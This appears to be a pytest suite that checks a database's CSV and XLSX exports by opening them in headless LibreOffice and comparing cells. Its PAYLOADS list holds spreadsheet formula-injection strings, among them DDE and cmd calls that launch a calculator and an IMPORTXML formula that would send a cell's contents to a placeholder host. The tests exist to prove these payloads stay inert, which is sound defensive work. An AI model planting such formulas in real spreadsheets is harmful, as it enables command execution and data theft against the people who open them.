"""Our files as LibreOffice opens them: the consumer judges."""

import datetime
import shutil
import subprocess
from pathlib import Path
from typing import Any

import bson
import httpx
import pydantic
import pytest

from tests.spreadsheets.files import csv_rows, export
from tests.spreadsheets.test_round_trip import Everything, bodies

pytestmark = [
    pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice"),
    pytest.mark.slow,
]


class Thing(pydantic.BaseModel):
    text: str | None = None
    number: float | None = None
    flag: bool | None = None
    other: Any = None
    moment: datetime.datetime | None = None


MOMENT = datetime.datetime(2026, 1, 2, 3, 4, 5, tzinfo=datetime.UTC)
DOCUMENTS: list[dict[str, Any]] = [
    {"text": "王小明", "number": 1.5, "flag": True, "other": [1, "二"], "moment": MOMENT},
    {
        "text": "007",
        "number": -3,
        "flag": False,
        "other": bson.ObjectId("65a1b2c3d4e5f60718293a4b"),
    },
    {"text": 'a,b "c"\nd', "number": None, "other": {"x": "😀"}},
    {"text": "1E5", "number": 999_999_999_999_999, "other": 2**63 - 1},
    {"text": "مرحبا", "other": bson.Decimal128("1.10")},
    {"text": "_x0041_ <&>", "other": "2026-01-02"},
    {"text": " spaces ", "other": float("inf")},
]
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=SUM(1,1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid","y")',
    "=WEBSERVICE(\"http://x.invalid\")", "\t=1+1", "\r=1+1", "=1+1\";=1+1", "＝1+1", "＋1+1",
    "－1+1", "＠SUM(1)",
    "'=1+1", "=IMPORTXML(CONCAT(\"http://x.invalid\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
]  # fmt: skip


def through_libreoffice(data: bytes, extension: str, folder: Path) -> list[list[str]]:
    source = folder / f"in.{extension}"
    source.write_bytes(data)
    # Comma, quote, UTF-8, from row 1; texts as they are, cells as shown.
    options = "44,34,76,1,,0,false,true,true"  # the last: cells as they are shown
    command = [
        "soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless",
        *(["--infilter=CSV:44,34,76,1,,0,false,false,false"] if extension == "csv" else []),
        "--convert-to", f"csv:Text - txt - csv (StarCalc):{options}", "--outdir",
        str(folder / "out"), str(source),
    ]  # fmt: skip
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    return csv_rows((folder / "out" / "in.csv").read_bytes())


def test_what_libreoffice_has_saved_comes_back(tmp_path: Path) -> None:
    """A float keeps 15 digits there, as in every spreadsheet."""
    stored = [
        {
            "text": "007",
            "int": 5,
            "bool": True,
            "datetime": MOMENT,
            "decimal": bson.Decimal128("19.90"),
        },
        {
            "text": "=1+1\n_x0041_",
            "int": 2**60,
            "bool": False,
            "map": {"k": 1},
            "texts": ["a", "三"],
        },
        {"text": "TRUE", "decimal": bson.Decimal128("1E+3"), "float": 1.5, "bytes": b"\0\xff"},
    ]
    source = tmp_path / "in.xlsx"
    source.write_bytes(export("xlsx", Everything, stored))
    command = [
        "soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
        "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(tmp_path / "out"),
        str(source),
    ]  # fmt: skip
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    saved = (tmp_path / "out" / "in.xlsx").read_bytes()
    ours = bodies("xlsx", source.read_bytes(), Everything)
    assert bodies("xlsx", saved, Everything) == ours
    assert [body["text"] for body, _ in ours] == ["007", "=1+1\n_x0041_", "TRUE"]


def as_csv_shows(cell: str) -> str:
    """LibreOffice shows TRUE and FALSE, and a moment in the format of its cell."""
    moment = f"{MOMENT:%Y-%m-%d %H:%M:%S}"
    return {"TRUE": "true", "FALSE": "false", moment: "2026-01-02T03:04:05Z"}.get(cell, cell)


def test_csv_and_xlsx_are_equal_cell_for_cell(tmp_path: Path) -> None:
    opened = through_libreoffice(export("xlsx", Thing, DOCUMENTS), "xlsx", tmp_path)
    assert [list(map(as_csv_shows, row)) for row in opened] == csv_rows(
        export("csv", Thing, DOCUMENTS)
    )


@pytest.mark.parametrize(
    "query", ["", "sort=-email", "unwind=profile.addresses", "name__contains=a"]
)
def test_both_files_of_one_query_are_equal_cell_for_cell(
    http: httpx.Client, users: Any, tmp_path: Path, query: str
) -> None:
    """From the real database: joined and flattened by it, or, for strange documents, neither."""
    texts = [
        "王小明",
        "=1+1",
        "a,b",
        'q"q',
        "line\nbreak",
        "007",
        "1E5",
        "🙂",
        "مرحبا",
        " a ",
        "-5",
        "'x",
        "_x0041_",
    ]
    names = [*texts, 7, None]
    addresses = [{"street": "Main St, 5", "city": "北京", "zipcode": "010", "country": ""}]
    profiles = [
        {"bio": "=2", "age": 4, "addresses": addresses},
        [],
        {"bio": ["x"]},
        None,
        {"addresses": addresses * 2},
    ]
    users.insert_many(
        [
            {
                "name": names[n % 15],
                "email": f"{n:04}@x.com",
                "age": n if n % 7 else "old",
                "profile": profiles[n % 5],
            }
            if n % 2_000 < 300
            else {"name": names[n % 13], "email": f"{n:04}@x.com", "age": n, "profile": profiles[0]}
            for n in range(7_000)
        ]
    )
    query += (
        "&columns=_id,*,profile.addresses.0.city,profile.addresses.0.street"
        if "unwind" not in query
        else ""
    )
    sheet = http.get(f"/users/export/xlsx?{query}").raise_for_status().content
    text = http.get(f"/users/export/csv?formulas=keep&{query}").raise_for_status().content
    rows = csv_rows(text)
    assert len(rows) > 1_000
    assert through_libreoffice(sheet, "xlsx", tmp_path) == rows


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_formula_payloads_are_inert(extension: str, tmp_path: Path) -> None:
    documents = [{"text": payload} for payload in PAYLOADS]
    opened = through_libreoffice(export(extension, Thing, documents, "text"), extension, tmp_path)
    guard = "'" if extension == "csv" else ""
    lines = "\n".join(row[0] for row in opened[1:]).replace("\r", "\n")
    assert lines == "\n".join(guard + payload for payload in PAYLOADS).replace("\r", "\n")


def test_libreoffice_would_run_a_formula_that_is_kept(tmp_path: Path) -> None:
    data = export("csv", Thing, [{"text": "=1+1"}], "text", formulas="keep")
    assert through_libreoffice(data, "csv", tmp_path) == [["text"], ["2"]]
